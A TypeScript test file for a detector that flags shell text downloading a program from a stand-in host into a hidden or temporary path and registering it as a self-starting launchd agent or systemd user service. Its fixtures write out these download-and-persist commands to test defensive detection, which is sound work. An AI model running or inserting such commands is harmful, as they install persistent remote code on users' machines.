import { describe, expect, test } from "vitest";
import { markText, type TextFormat } from "../../text/marked-text.ts";
import { hiddenStarts } from "./hidden-starts.ts";

const seenIn = (text: string, format: TextFormat = "shell") =>
  hiddenStarts(markText(text, format)).map(({ line }) => line);
const agent = (file: string) =>
  `cat > $P <<X\n<key>ProgramArguments</key><array><string>${file}</string></array>\nX\nlaunchctl load $P`;

describe("a hidden program that starts by itself is found:", () => {
  test.each([
    ["in the home folder", `curl -so ~/.cleand https://c.zzz.io/d\n${agent("$HOME/.cleand")}`],
    ["in a temporary folder", `curl -s https://c.zzz.io/d -o /tmp/upd\n${agent("/tmp/upd")}`],
    [
      "as a service of Linux",
      "wget -qO ~/.cache/.u https://c.zzz.io/d\nprintf 'ExecStart=%s/.cache/.u' \"$HOME\" > ~/.config/systemd/user/u.service",
    ],
  ])("%s", (_, text) => {
    expect(seenIn(text)).toEqual([1]);
  });
});

describe("nothing is said of", () => {
  test.each<[string, string, TextFormat?]>([
    [
      "a service with a name",
      "curl -sL https://c.zzz.io/d -o /usr/local/bin/exporter\nprintf 'ExecStart=/usr/local/bin/exporter' > a.service",
    ],
    [
      "a hidden file that nothing starts",
      `curl -so ~/.cleand https://c.zzz.io/d\n${agent("/usr/bin/x")}`,
    ],
    ["a script without a download", agent("/tmp/upd")],
    [
      "a sentence",
      "Then curl -so ~/.cleand https://c.zzz.io/d puts <string>.cleand</string> into ProgramArguments.",
      "markdown",
    ],
  ])("%s", (_, text, format) => {
    expect(seenIn(text, format)).toEqual([]);
  });

  test("what a text warns of", () => {
    const text = `# Red flags\n\nNever do this:\n\n\`\`\`\ncurl -so ~/.cleand https://c.zzz.io/d\n${agent("~/.cleand")}\n\`\`\`\n`;
    expect(seenIn(text, "markdown")).toEqual([]);
  });
});
